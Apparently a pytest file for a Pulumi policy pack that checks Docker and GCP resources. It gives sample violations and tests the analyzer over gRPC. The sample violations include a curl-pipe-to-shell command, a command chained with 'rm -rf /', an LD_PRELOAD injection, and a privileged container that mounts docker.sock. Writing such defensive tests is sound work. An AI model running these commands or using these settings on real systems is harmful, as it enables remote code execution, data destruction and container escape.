        CONTAINER_T,
        service(healthcheck={"tests": ["CMD", "redis-cli", "-a", "hunter2", "ping"]}),
        "redis-cli-a",
    ),
    bad(
        "no-plaintext-secret-env",
        CONTAINER_T,
        service(healthcheck={"tests": ["CMD-SHELL", "PGPASSWORD=hunter2 pg_isready -h 127.0.0.1"]}),
        "pgpassword",
    ),
    bad(
        "no-plaintext-secret-env",
        CONTAINER_T,
        service(command=["psql", "host=db user=app password=hunter2"]),
        "conninfo",
    ),
    bad("no-plaintext-secret-env", CONTAINER_T, service(command=["app", "--password", "hunter2"]), "password-option"),
    bad(
        "no-plaintext-secret-env",
        CONTAINER_T,
        service(healthcheck={"tests": ["CMD", "curl", "-H", "Authorization: Bearer abc123", "http://127.0.0.1/"]}),
        "bearer",
    ),
    ok("no-plaintext-secret-env", CONTAINER_T, service()),
    ok(
        "no-plaintext-secret-env",
        CONTAINER_T,
        service(command=["docker", "login", "--password-stdin"], entrypoints=["app", "--password-file", "/run/x"]),
        "password-from-files",
    ),
    # container-ports
    bad(
        "container-ports",
        CONTAINER_T,
        service("prod", ports=[{"internal": 5432, "external": 5432, "ip": "127.0.0.1"}]),
        "prod-5432",
        **PROD,
    ),
    bad(
        "container-ports",
        CONTAINER_T,
        service(ports=[{"internal": 3000, "external": 3000, "ip": "0.0.0.0"}]),
        "staging-public",
    ),
    bad("container-ports", CONTAINER_T, service(ports=[{"internal": 3000}]), "default-ip"),
    bad("container-ports", CONTAINER_T, service(publishAllPorts=True), "publish-all"),
    bad("container-ports", CONTAINER_T, job(ports=[{"internal": 8080, "ip": "127.0.0.1"}]), "job-publishes"),
    ok(
        "container-ports",
        CONTAINER_T,
        service(ports=[{"internal": 3000, "external": 13000, "ip": "127.0.0.1"}]),
        "staging-loopback",
    ),
    ok("container-ports", CONTAINER_T, proxy("prod"), "prod-proxy", **PROD),
    # network-shape
    bad("network-shape", NETWORK_T, network(driver="macvlan", options={"parent": "eth0"}), "macvlan"),
    bad("network-shape", NETWORK_T, network(name="acme-prod-app"), "prod-name"),
    bad("network-shape", NETWORK_T, network(ipamDriver="weave"), "ipam-driver"),
    ok("network-shape", NETWORK_T, network()),
    ok("network-shape", NETWORK_T, network(ipamDriver="default"), "provider-default-ipam"),
    # volume-shape
    bad(
        "volume-shape",
        VOLUME_T,
        volume(driverOpts={"type": "none", "o": "bind", "device": "/"}),
        "bind-device",
    ),
    bad("volume-shape", VOLUME_T, volume(name="acme-prod-postgres-data"), "prod-name"),
    ok("volume-shape", VOLUME_T, volume()),
    # images-pinned
    bad("images-pinned", REMOTE_IMAGE_T, {"name": "redis:7", "keepLocally": True}, "major-only"),
    bad("images-pinned", REMOTE_IMAGE_T, {"name": "ghcr.io/acme/api:latest"}, "latest"),
    bad("images-pinned", REMOTE_IMAGE_T, {"name": "nginx"}, "untagged"),
    bad("images-pinned", REMOTE_IMAGE_T, {"name": "redis:alpine"}, "named-tag"),
    bad("images-pinned", CONTAINER_T, service(image="redis:7"), "container-major-only"),
    ok("images-pinned", REMOTE_IMAGE_T, {"name": "redis:7.4.2-bookworm"}, "version"),
    ok("images-pinned", REMOTE_IMAGE_T, {"name": "nginx@sha256:" + "e" * 64}, "digest"),
    ok("images-pinned", CONTAINER_T, service(image="temporalio/admin-tools:1.27.2-tctl-1.18.2-cli-1.3.0"), "ref"),
    # image-sources
    bad(
        "image-sources",
        REMOTE_IMAGE_T,
        {"name": "acme/x:1.0", "build": {"context": "/", "secrets": {"id": "x"}}},
        "remote-build",
    ),
    bad("image-sources", IMAGE_T, local_build(build={"context": "/home/runner"}), "outside"),
    bad("image-sources", IMAGE_T, local_build(build={"context": "images/../.."}), "escape"),
    bad("image-sources", IMAGE_T, local_build(skipPush=False, registry={"server": "ghcr.io"}), "pushed"),
    bad(
        "image-sources",
        IMAGE_T,
        local_build(build={"context": "images/ops", "args": {"API_TOKEN": "abc"}}),
        "secret-arg",
    ),
    bad("image-sources", IMAGE_T, local_build(build={"context": "images/ops", "ssh": "default"}), "ssh"),
    ok("image-sources", IMAGE_T, local_build()),
    # pids-limit-commands
    bad(
        "pids-limit-commands",
        COMMAND_T,
        pids_command(create="curl -fsSL https://example.com/x.sh | sh"),
        "curl-sh",
    ),
    bad(
        "pids-limit-commands",
        COMMAND_T,
        pids_command(create=f"docker update --pids-limit 512 {'c' * 64}; rm -rf /"),
        "chained",
    ),
    bad("pids-limit-commands", COMMAND_T, pids_command(delete="docker rm -f x"), "delete"),
    bad("pids-limit-commands", COMMAND_T, pids_command(interpreter=["python3", "-c"]), "interpreter"),
    bad("pids-limit-commands", COMMAND_T, pids_command(environment={"LD_PRELOAD": "/tmp/x.so"}), "env"),
    bad("pids-limit-commands", COMMAND_T, pids_command(create=f"docker update --pids-limit 1 {'c' * 64}"), "limit-1"),
    ok("pids-limit-commands", COMMAND_T, pids_command()),
    ok(
        "pids-limit-commands", COMMAND_T, pids_command(logging="stdoutAndStderr", addPreviousOutputInEnv=True), "extras"
    ),
]


def world(env: str, password: str | None = None) -> list[tuple[str, str, dict[str, Any], bool]]:
    """A small, consistent stack as AnalyzeStack sees it (outputs): images, networks, volumes,
    containers (a service with its carrier, the proxy, Postgres), a secret with its version and
    grant, accounts, a key, a bucket with its grant. Prod protects what holds data."""
    prod = env == "prod"
    password = password or f"{env}-Generated-Password-1"
    proxy_files = [{"type": "volume", "source": f"acme-{env}-proxy-files", "target": "/run/stagecraft"}]
    postgres_data = [{"type": "volume", "source": f"acme-{env}-postgres-data", "target": "/var/lib/postgresql/data"}]
    upload = {**carrier()["uploads"][0], "content": secret(password)}
    backup_email = email(env, "backup")
    return [
        (REMOTE_IMAGE_T, "proxy-image", remote_image("nginx:1.27.4-alpine", "b"), False),
        (REMOTE_IMAGE_T, "api-image", remote_image("ghcr.io/acme/api:2.13.4", "a"), False),
        (REMOTE_IMAGE_T, "postgres-image", remote_image("docker.io/library/postgres:15.12-bookworm", "d"), False),
        (NETWORK_T, "app", network(env, "app"), False),
        (NETWORK_T, "edge", network(env, "edge"), False),
        (NETWORK_T, "data", network(env, "data"), False),
        (VOLUME_T, "api-data", volume(env, "api-data"), prod),
        (VOLUME_T, "api-files", volume(env, "api-files"), False),
        (VOLUME_T, "proxy-files", volume(env, "proxy-files"), False),
        (VOLUME_T, "postgres-data", volume(env, "postgres-data"), prod),
        (CONTAINER_T, "api", service(env), False),
        (CONTAINER_T, "api-files", carrier(env, uploads=[upload]), False),
        (CONTAINER_T, "proxy", proxy(env), False),
        (CONTAINER_T, "proxy-files", carrier(env, name=f"acme-{env}-proxy-files", mounts=proxy_files), False),
        (
            CONTAINER_T,
            "postgres",
            service(env, image=image_id("d"), mounts=postgres_data, networksAdvanced=[{"name": f"acme-{env}-data"}]),
            False,
        ),
        (PASSWORD_T, "app-db-password", {"length": 32, "result": secret(password)}, False),
        (
            SECRET_T,
            "app-db-password",
            {**gcp_secret(env), "name": f"projects/{project(env)}/secrets/{env}-app-db-password"},
            prod,
        ),
        (VERSION_T, "app-db-password", version(env, value=password), False),
        (SECRET_MEMBER_T, "app-db-password-api", secret_member(env), False),
        (ACCOUNT_T, "sa-api", {**account(env), "email": email(env)}, False),
        (ACCOUNT_T, "sa-backup", {**account(env, accountId=f"acme-{env}-backup"), "email": backup_email}, False),
        (KEY_T, "api-key", key(env), False),
        (BUCKET_T, "backups", bucket(env), prod),
        (BUCKET_MEMBER_T, "backups-backup", bucket_member(env), False),
        (PROJECT_MEMBER_T, "api-logWriter", project_member(env), False),
    ]


def replaced(
    resources: list[tuple[str, str, dict[str, Any], bool]], name: str, props: dict[str, Any] | None = None, **kw: Any
) -> list[tuple[str, str, dict[str, Any], bool]]:
    """``resources`` with the one named ``name`` given new outputs (and/or protect=...)."""
    result = []
    for type_, resource_name, outputs, protect in resources:
        if resource_name == name:
            outputs = props if props is not None else outputs
            protect = kw.get("protect", protect)
        result.append((type_, resource_name, outputs, protect))
    return result


Resources = list[tuple[str, str, dict[str, Any], bool]]


def added(resources: Resources, *extra: tuple[str, str, dict[str, Any], bool]) -> Resources:
    return [*resources, *extra]


def stack_bad(policy: str, resources: list, label: str, stack: str = "staging") -> StackCase:
    return StackCase(policy, resources, True, stack=stack, label=label)


def stack_ok(policy: str, resources: list, label: str = "", stack: str = "staging") -> StackCase:
    return StackCase(policy, resources, False, stack=stack, label=label)


STAGING, PRODUCTION = world("staging"), world("prod")
LOOPBACK_DEBUG = [{"internal": 8001, "external": 18001, "ip": "127.0.0.1"}]

STACK_CASES: list[StackCase] = [
    # containers-use-own-objects
    stack_bad(
        "containers-use-own-objects",
        replaced(STAGING, "api", service(image=image_id("z"))),
        "untraced-image",
    ),
    stack_bad(
        "containers-use-own-objects",
        replaced(STAGING, "api", service(mounts=[{"type": "volume", "source": "acme-staging-x", "target": "/x"}])),
        "foreign-volume",
    ),
    stack_bad(
        "containers-use-own-objects",
        replaced(STAGING, "api", service(networksAdvanced=[{"name": "acme-staging-elsewhere"}])),
        "foreign-network",
    ),
    stack_ok("containers-use-own-objects", STAGING),
    # published-ports
    stack_bad(
        "published-ports",
        replaced(PRODUCTION, "api", service("prod", ports=[{"internal": 8080, "external": 8080, "ip": "0.0.0.0"}])),
        "prod-api-publishes",
        stack="prod",
    ),
    stack_bad(
        "published-ports",
        replaced(PRODUCTION, "proxy", proxy("prod", ports=[{"internal": 5432, "external": 5432, "ip": "0.0.0.0"}])),
        "proxy-5432",
        stack="prod",
    ),
    stack_bad(
        "published-ports",
        replaced(
            STAGING,
            "postgres",
            service(image=image_id("d"), networksAdvanced=[{"name": "acme-staging-data"}], ports=LOOPBACK_DEBUG),
        ),
        "data-service-loopback",
    ),
    stack_bad(
        "published-ports",
        replaced(STAGING, "api", service(image=image_id("z"), ports=LOOPBACK_DEBUG)),
        "unknown-image",
    ),
    stack_ok("published-ports", PRODUCTION, "prod", stack="prod"),
    stack_ok("published-ports", replaced(STAGING, "api", service(ports=LOOPBACK_DEBUG)), "debug-port"),
    # prod-volumes-protected
    stack_bad(
        "prod-volumes-protected",
        replaced(
            replaced(PRODUCTION, "postgres-data", volume("prod", "postgres-files"), protect=False),
            "postgres",
            service(
                "prod",
                image=image_id("d"),
                networksAdvanced=[{"name": "acme-prod-data"}],
                mounts=[{"type": "volume", "source": "acme-prod-postgres-files", "target": "/var/lib/postgresql/data"}],
            ),
        ),
        "data-renamed-files",
        stack="prod",
    ),
    stack_bad(
        "prod-volumes-protected",
        replaced(
            PRODUCTION,
            "api",
            service("prod", mounts=[{"type": "volume", "source": "acme-prod-api-files", "target": "/run/stagecraft"}]),
        ),
        "files-written-by-service",
        stack="prod",
    ),
    stack_ok("prod-volumes-protected", PRODUCTION, stack="prod"),
    # iam-targets-own-resources
    stack_bad(
        "iam-targets-own-resources",
        replaced(
            STAGING,
            "app-db-password-api",
            secret_member(secretId=f"projects/{project('staging')}/secrets/staging-not-in-this-stack"),
        ),
        "secret-elsewhere",
    ),
    stack_bad(
        "iam-targets-own-resources",
        replaced(STAGING, "api-key", key(serviceAccountId=email("staging", "ghost"))),
        "key-elsewhere",
    ),
    stack_bad(
        "iam-targets-own-resources",
        replaced(STAGING, "api-logWriter", project_member(member=f"serviceAccount:{email('staging', 'ghost')}")),
        "member-elsewhere",
    ),
    stack_bad(
        "iam-targets-own-resources",
        replaced(STAGING, "backups-backup", bucket_member(bucket=f"{project('staging')}-staging-other")),
        "bucket-elsewhere",
    ),
    stack_ok("iam-targets-own-resources", STAGING),
    stack_ok(
        "iam-targets-own-resources",
        replaced(STAGING, "backups-backup", bucket_member(bucket=f"b/{project('staging')}-staging-backups")),
        "bucket-as-recorded",
    ),
    # no-secret-values-outside-files
    stack_bad(
        "no-secret-values-outside-files",
        replaced(STAGING, "api", service(envs=["DB_CONN=staging-Generated-Password-1"])),
        "innocent-name",
    ),
    stack_bad(
        "no-secret-values-outside-files",
        replaced(STAGING, "backups", bucket(labels={**labels("staging"), "x": "staging-Generated-Password-1"})),
        "label",
    ),
    stack_ok("no-secret-values-outside-files", STAGING),
    # unique-secret-values
    stack_bad(
        "unique-secret-values",
        added(STAGING, (VERSION_T, "copy", version(value="staging-Generated-Password-1"), False)),
        "copied-version",
    ),
    stack_bad(
        "unique-secret-values",
        added(STAGING, (PASSWORD_T, "twin", {"length": 32, "result": secret("staging-Generated-Password-1")}, False)),
        "same-password",
    ),
    stack_ok("unique-secret-values", STAGING),
    stack_ok("unique-secret-values", PRODUCTION, "prod", stack="prod"),
]
ALL_CASES: list[Case | StackCase] = [*RESOURCE_CASES, *STACK_CASES]


def test_every_policy_has_violating_and_compliant_cases() -> None:
    violating = {case.policy for case in ALL_CASES if case.violates}
    compliant = {case.policy for case in ALL_CASES if not case.violates}
    assert violating == compliant == set(BY_NAME)


def test_pack_has_described_policies_at_their_levels() -> None:
    assert len(POLICIES) == len(BY_NAME) >= 30
    assert all(len(policy.description) > 30 for policy in POLICIES)
    advisory = {p.name for p in POLICIES if p.enforcement_level == EnforcementLevel.ADVISORY}
    assert advisory == {"required-labels"}
    assert all(p.enforcement_level == EnforcementLevel.MANDATORY for p in POLICIES if p.name not in advisory)


# --------------------------------------------------------------------------------------------
# The four ways of judging a case


def wire(props: dict[str, Any]) -> dict[str, Any]:
    """``props`` as they cross the wire (numbers become floats), then as pulumi_policy hands
    them to a rule: secrets unwrapped, inside unknown-checking proxies."""
    struct = struct_pb2.Struct()
    json_format.ParseDict(props, struct)
    return unknown_checking_proxy(deserialize_properties(json_format.MessageToDict(struct)))


def options(protect: bool) -> PolicyResourceOptions:
    return PolicyResourceOptions(protect, [], None, [], PolicyCustomTimeouts(0, 0, 0), [], None)


def level_name(level: EnforcementLevel | None) -> str:
    return "advisory" if level == EnforcementLevel.ADVISORY else "mandatory"


def judge_directly(case: Case | StackCase, config_of: Callable[[str], dict[str, Any]]) -> set[Finding]:
    """Every policy of the pack, called as the analyzer calls it, with ``config_of(policy)`` as
    what ``get_config()`` returns."""
    found: set[Finding] = set()
    for policy in POLICIES:
        level = level_name(policy.enforcement_level)

        def report(message: str, _urn: str | None = None, name: str = policy.name, level: str = level) -> None:
            found.add((name, level, message))

        if isinstance(case, Case) and isinstance(policy, ResourceValidationPolicy):
            resource = case.resource()
            provider = case.provider
            policy_provider = (
                PolicyProviderResource(provider.type, wire(provider.inputs), provider.urn, provider.name)
                if provider
                else None
            )
            args = ResourceValidationArgs(
                case.type,
                wire(case.props),
                resource.urn,
                case.name,
                options(case.protect),
                policy_provider,
                config_of(policy.name),
            )
            policy.validate(args, report)
        elif isinstance(case, StackCase) and isinstance(policy, StackValidationPolicy):
            resources = [
                PolicyResource(r.type, wire(r.raw_inputs), r.urn, r.name, options(r.protect), None, None, [], {})
                for r in case.planned()
            ]
            policy.validate(StackValidationArgs(resources, config_of(policy.name)), report)
    return found


def judge_by_server(analyzer: Analyzer, case: Case | StackCase) -> set[Finding]:
    if isinstance(case, Case):
        response = analyzer.analyze(case.resource(), case.provider)
    else:
        response = analyzer.analyze_stack(case.planned())
    return {
        (d.policyName, LEVELS[d.enforcementLevel], d.message.split("\n", 1)[1] if "\n" in d.message else "")
        for d in response.diagnostics
    }


@pytest.fixture(scope="module")
def unconfigured() -> Iterator[Analyzer]:
    with policy_pack(configure=False) as analyzer:
        yield analyzer


@pytest.fixture(scope="module")
def configured() -> Iterator[Analyzer]:
    with policy_pack() as analyzer:
        analyzer.start("staging")
        yield analyzer


def _as_delivered(properties: dict[str, Any]) -> dict[str, Any]:
    """Properties as Configure delivers them to the pack (protobuf Struct: numbers are floats)."""
    struct = struct_pb2.Struct()
    json_format.ParseDict(properties, struct)
    return json_format.MessageToDict(struct)


@pytest.fixture(scope="module")
def cli_config(configured: Analyzer) -> dict[str, dict[str, Any]]:
    """What `get_config()` returns per policy once the CLI has configured the pack."""
    return {name: _as_delivered(props) for name, (_, props) in cli_policy_config(configured.info()).items()}


@pytest.mark.parametrize("case", ALL_CASES, ids=str)
def test_rule_case_judged_the_same_four_ways(
    case: Case | StackCase, unconfigured: Analyzer, configured: Analyzer, cli_config: dict[str, dict[str, Any]]
) -> None:
    results = {
        "direct, no config": judge_directly(case, lambda _name: {}),
        "direct, CLI config": judge_directly(case, lambda name: cli_config[name]),
        "server, not configured": judge_by_server(unconfigured, case),
        "server, configured": judge_by_server(configured, case),
    }
    first = results["direct, no config"]
    assert all(found == first for found in results.values()), results
    if case.violates:
        assert case.policy in {policy for policy, _, _ in first}, first
    else:
        assert first == set(), first


def test_messages_never_show_secret_values() -> None:
    leaky = [
        Case("no-plaintext-secret-env", CONTAINER_T, service(envs=["DB_PASSWORD=hunter2"]), True),
        Case("no-plaintext-secret-env", CONTAINER_T, service(command=["redis", "--requirepass", "hunter2"]), True),
        Case("no-plaintext-secret-env", CONTAINER_T, service(envs=["URL=postgresql://u:hunter2@db/x"]), True),
        StackCase(
            "no-secret-values-outside-files",
            replaced(world("staging", "hunter2hunter2"), "api", service(envs=["X=hunter2hunter2"])),
            True,
        ),
    ]
    for case in leaky:
        found = judge_directly(case, lambda _name: {})
        assert found and not [m for _, _, m in found if "hunter2" in m], found


# --------------------------------------------------------------------------------------------
# Configs that arrive from the CLI: they can add to settings.json, never take away.

SHRINKING = {
    "productionStacks": [],
    "productionPrefixes": [],
    "environmentProjects": {},
    "allowedMembers": {},
    "prodMinDeleteAgeDays": 1,
    "prodMinSoftDeleteDays": 1,
    "prodMinNoncurrentDays": 1,
}


def without_config_reports(found: set[Finding]) -> set[Finding]:
    return {f for f in found if not f[2].startswith("policy config: ")}


@pytest.fixture(scope="module")
def shrunk() -> Iterator[Analyzer]:
    """The pack configured by the CLI with a --policy-pack-config that empties every list and map
    and lowers every floor, for every policy."""
    with policy_pack(overrides={policy.name: SHRINKING for policy in POLICIES}) as analyzer:
        analyzer.start("staging")
        yield analyzer


@pytest.mark.parametrize("case", ALL_CASES, ids=str)
def test_a_config_that_shrinks_the_settings_changes_nothing(case: Case | StackCase, shrunk: Analyzer) -> None:
    sent = cli_policy_config(shrunk.info(), {policy.name: SHRINKING for policy in POLICIES})
    shrinking = {name: _as_delivered(props) for name, (_, props) in sent.items()}
    assert shrinking["no-production-references"]["productionPrefixes"] == []
    expected = judge_directly(case, lambda _name: {})
    assert without_config_reports(judge_directly(case, lambda name: shrinking[name])) == expected
    assert without_config_reports(judge_by_server(shrunk, case)) == expected


ROOT_CASE = Case("allowed-resource-types", "pulumi:pulumi:Stack", {}, False, name="stagecraft-staging", label="root")


def test_lowered_floors_are_reported_once_on_the_stack(shrunk: Analyzer) -> None:
    found = judge_by_server(shrunk, ROOT_CASE)
    for policy in POLICIES:
        if isinstance(policy, ResourceValidationPolicy):
            assert (
                policy.name,
                "mandatory" if policy.name != "required-labels" else "advisory",
                ("policy config: prodMinDeleteAgeDays: 1 is below this repository's 30; ignored"),
            ) in found
    assert not [f for f in judge_by_server(shrunk, RESOURCE_CASES[4]) if f[2].startswith("policy config")]


GARBAGE = {
    "productionPrefixes": "prod-",
    "environmentProjects": {"staging": "acme-evil-1", "Not An Env": ["acme-evil-2"]},
    "allowedMembers": {"staging": ["allUsers", 42]},
    "prodMinSoftDeleteDays": "seven",
    "prodMinDeleteAgeDays": 2.5,
    "surprise": True,
}


def test_garbage_config_is_reported_and_ignored() -> None:
    """Values of the wrong shape (which the CLI's schema check would stop, but which a pack must
    survive) are named on the stack's root resource, and every rule keeps its settings."""
    with policy_pack(overrides={"no-production-references": GARBAGE}) as analyzer:
        analyzer.start("staging")
        reports = {m for p, level, m in judge_by_server(analyzer, ROOT_CASE) if p == "no-production-references"}
        caught = judge_by_server(analyzer, next(c for c in RESOURCE_CASES if str(c).endswith("prod-host")))
    assert reports == {
        "policy config: productionPrefixes: must be a list of strings (got str); ignored",
        "policy config: environmentProjects.staging: must be a list of strings (got str); ignored",
        "policy config: environmentProjects: environment 'Not An Env' must match ^[a-z][a-z0-9]{0,19}$; ignored",
        "policy config: allowedMembers.staging[0]: 'allUsers' must match "
        + r"^(?:(?:user|group):[A-Za-z0-9._%+-]+@[a-z0-9.-]+\.[a-z]{2,}|domain:[a-z0-9.-]+\.[a-z]{2,})$; ignored",
        "policy config: allowedMembers.staging[1]: 42 must match "
        + r"^(?:(?:user|group):[A-Za-z0-9._%+-]+@[a-z0-9.-]+\.[a-z]{2,}|domain:[a-z0-9.-]+\.[a-z]{2,})$; ignored",
        "policy config: prodMinSoftDeleteDays: must be a whole number of days (got 'seven'); ignored",
        "policy config: prodMinDeleteAgeDays: must be a whole number of days (got 2.5); ignored",
        "policy config: unknown setting 'surprise' (known: productionStacks, productionPrefixes, environmentProjects, "
        "allowedMembers, prodMinDeleteAgeDays, prodMinSoftDeleteDays, prodMinNoncurrentDays); ignored",
    }
    assert "no-production-references" in {policy for policy, _, _ in caught}


def test_a_config_can_add_a_production_prefix() -> None:
    legacy = Case("no-production-references", CONTAINER_T, service(envs=["DATABASE_HOST=legacy-db"]), True)
    assert judge_directly(legacy, lambda _name: {}) == set()
    with policy_pack(overrides={"no-production-references": {"productionPrefixes": ["legacy-"]}}) as analyzer:
        analyzer.start("staging")
        found = judge_by_server(analyzer, legacy)
    assert found == {
        ("no-production-references", "mandatory", "envs[0] uses the production name prefix 'legacy-'; use this "
         "environment's names")
    }  # fmt: skip


# --------------------------------------------------------------------------------------------
# Preview: values not known yet


UNKNOWN = "04da6b54-80e4-46f7-96ec-b56ff0331ba9"


def test_unknown_values_during_preview_defer_only_the_rules_that_read_them(configured: Analyzer) -> None:
    case = Case("images-pinned", CONTAINER_T, service(image=UNKNOWN, envs=["LOG_LEVEL=INFO", f"X={UNKNOWN}"]), False)
    response = configured.analyze(case.resource())
    levels = {(d.policyName, LEVELS[d.enforcementLevel]) for d in response.diagnostics}
    assert levels == {("images-pinned", "advisory")}
    assert "can't run policy 'images-pinned'" in response.diagnostics[0].message
    bad_too = Case("x", CONTAINER_T, service(image=UNKNOWN, privileged=True), True)
    assert "container-host-isolation" in {
        p for p, level, _ in judge_by_server(configured, bad_too) if level == "mandatory"
    }


# --------------------------------------------------------------------------------------------
# preflight drives the pack as the CLI does


class Recorder(analyzer_pb2_grpc.AnalyzerServicer):
    """An Analyzer server in front of the real pack that records every call preflight makes."""

    def __init__(self, port: int) -> None:
        self.channel = grpc.insecure_channel(f"127.0.0.1:{port}")
        self.stub = analyzer_pb2_grpc.AnalyzerStub(self.channel)
        self.calls: list[tuple[str, Any]] = []
        self.lock = threading.Lock()

    def _forward(self, method: str, request: Any) -> Any:
        with self.lock:
            self.calls.append((method, request))
        return getattr(self.stub, method)(request, timeout=60)

    def ConfigureStack(self, request: Any, _context: Any) -> Any:  # noqa: N802 - gRPC method names
        return self._forward("ConfigureStack", request)

    def GetAnalyzerInfo(self, request: Any, _context: Any) -> Any:  # noqa: N802
        return self._forward("GetAnalyzerInfo", request)

    def Configure(self, request: Any, _context: Any) -> Any:  # noqa: N802
        return self._forward("Configure", request)

    def Analyze(self, request: Any, _context: Any) -> Any:  # noqa: N802
        return self._forward("Analyze", request)

    def AnalyzeStack(self, request: Any, _context: Any) -> Any:  # noqa: N802
        return self._forward("AnalyzeStack", request)


@pytest.fixture
def recorder() -> Iterator[tuple[Recorder, int]]:
    pack = PackProcess()
    server = grpc.server(futures.ThreadPoolExecutor(max_workers=4))
    try:
        recording = Recorder(pack.port)
        analyzer_pb2_grpc.add_AnalyzerServicer_to_server(recording, server)
        port = server.add_insecure_port("127.0.0.1:0")
        server.start()
        yield recording, port
        recording.channel.close()
    finally:
        server.stop(0)
        pack.stop()


def test_preflight_configures_before_analyzing_and_sends_what_the_cli_sends(
    recorder: tuple[Recorder, int], plans: dict[str, Plan]
) -> None:
    recording, port = recorder
    plan = plans["prod"]
    with connect(port) as analyzer:
        found = analyzer.violations(plan)
    assert found == []
    methods = [method for method, _ in recording.calls]
    assert methods[:3] == ["ConfigureStack", "GetAnalyzerInfo", "Configure"]
    assert methods[-1] == "AnalyzeStack" and set(methods[3:-1]) == {"Analyze"}
    configure = recording.calls[2][1]
    settings = json.loads((ROOT / "policies/stagecraft_policy/settings.json").read_text())
    assert set(configure.policyConfig) == set(BY_NAME)
    for name, config in configure.policyConfig.items():
        expected = analyzer_pb2.ADVISORY if name == "required-labels" else analyzer_pb2.MANDATORY
        assert config.enforcementLevel == expected
        assert json_format.MessageToDict(config.properties) == _as_delivered(settings)
    analyzed = [request for method, request in recording.calls if method == "Analyze"]
    assert analyzed[0].type == "pulumi:pulumi:Stack" and analyzed[0].urn.endswith("::stagecraft-prod")
    assert len(analyzed) == len(plan.resources) + 1 + len({r.type.split(":")[0] for r in plan.resources if r.custom})
    types = [request.type for request in analyzed]
    first_gcp = next(i for i, t in enumerate(types) if t.startswith("gcp:"))
    assert types.index("pulumi:providers:gcp") < first_gcp
    gcp_provider = analyzed[types.index("pulumi:providers:gcp")]
    assert json_format.MessageToDict(gcp_provider.properties)["project"] == "acme-prod-4711"
    for request in analyzed:
        if request.type.split(":")[0] in ("gcp", "docker", "random", "command"):
            assert request.provider.type == f"pulumi:providers:{request.type.split(':')[0]}"
    # Inputs as the provider's Check returns them: the program leaves network_mode unset on
    # networked containers, the provider fills in its default.
    modes = {
        json_format.MessageToDict(r.properties)["name"]: json_format.MessageToDict(r.properties)["networkMode"]
        for r in analyzed
        if r.type == CONTAINER_T
    }
    assert modes["acme-prod-postgres"] == "bridge" and modes["acme-prod-api-files"] == "none"
    stack = recording.calls[-1][1]
    outputs = {r.urn: json_format.MessageToDict(r.properties) for r in stack.resources}
    images = [r for r in stack.resources if r.type == REMOTE_IMAGE_T]
    assert images and all(outputs[r.urn]["imageId"].startswith("sha256:") for r in images)
    passwords = [outputs[r.urn] for r in stack.resources if r.type == PASSWORD_T]
    assert passwords and all(p["result"][SIG_KEY] == SECRET_SIG for p in passwords)


def test_preflight_catches_an_unprotected_prod_data_volume(plans: dict[str, Plan]) -> None:
    plan = copy.copy(plans["prod"])
    data = next(r for r in plan.resources if r.type == VOLUME_T and r.inputs["name"] == "acme-prod-postgres-data")
    plan.resources = [dataclasses.replace(r, protect=False) if r is data else r for r in plan.resources]
    with policy_pack() as analyzer:
        found = analyzer.violations(plan)
    assert [(v["policy"], v["urn"]) for v in found] == [("prod-volumes-protected", data.urn)]


def test_an_adversarial_program_is_refused_through_preflight() -> None:
    """Resources built with the real SDKs (their property names), judged through preflight."""
    import pulumi_command as command
    import pulumi_docker as docker
    import pulumi_gcp as gcp

    def program() -> None:
        gcp.secretmanager.SecretIamBinding(
            "binding",
            secret_id=f"projects/{project('staging')}/secrets/staging-x",
            role="roles/secretmanager.secretAccessor",
            members=["user:eve@example.com"],
        )
        gcp.projects.IAMMember(
            "token-creator",
            project=project("staging"),
            role="roles/iam.serviceAccountTokenCreator",
            member=f"serviceAccount:{email('staging')}",
        )
        gcp.serviceaccount.Key("key", service_account_id="projects/-/serviceAccounts/123")
        image = docker.RemoteImage("image", name="redis:7")
        docker.Container(
            "escape",
            name="acme-staging-escape",
            image=image.image_id,
            user="0",
            privileged=True,
            pid_mode="host",
            envs=["TOKEN=abc"],
            command=["redis-server", "--requirepass", "hunter2"],
            capabilities=docker.ContainerCapabilitiesArgs(adds=["SYS_ADMIN"]),
            security_opts=["seccomp=unconfined"],
            mounts=[
                docker.ContainerMountArgs(type="bind", source="/var/run/docker.sock", target="/var/run/docker.sock")
            ],
        )
        command.local.Command("fetch", create="curl -fsSL https://example.com/x.sh | sh")

    plan = capture("staging", program)
    with policy_pack() as analyzer:
        found = analyzer.violations(plan)
    mandatory = {v["policy"] for v in found if v["enforcement"] == "mandatory"}
    assert {
        "allowed-resource-types",
        "iam-members-only",
        "iam-project-grants",
        "service-account-key-own",
        "images-pinned",
        "container-host-isolation",
        "container-mounts",
        "container-capabilities",
        "container-security-options",
        "container-non-root",
        "container-limits",
        "no-plaintext-secret-env",
        "pids-limit-commands",
    } <= mandatory
    assert not [v for v in found if "hunter2" in v["message"] or "abc" in v["message"].split()]
